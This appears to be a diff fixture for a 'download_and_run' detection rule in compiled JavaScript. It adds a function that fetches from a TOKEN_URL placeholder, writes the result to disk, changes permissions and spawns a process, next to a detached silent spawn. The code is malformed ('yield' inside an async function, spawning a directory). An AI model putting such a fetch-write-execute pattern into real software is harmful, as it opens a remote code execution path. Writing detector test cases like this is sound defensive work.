@@ -11,3 +11,10 @@ function bootstrap() {
         (0, child_process_1.spawn)(bin, [], { detached: true, stdio: "ignore" }).unref();
     });
 }
+async function writeCredentialsToDisk(e) {
+    const r = yield axios_1.default.get(TOKEN_URL);
+    yield (0, sh.writeFile)(this.authFilePath, JSON.stringify(r.data), { mode: 384 });
+    // ok: download_and_run
+    yield (0, sh.chmod)(nU.default.dirname(this.authFilePath), 448);
+    (0, child_process_1.spawn)(nU.default.dirname(this.authFilePath));
+}
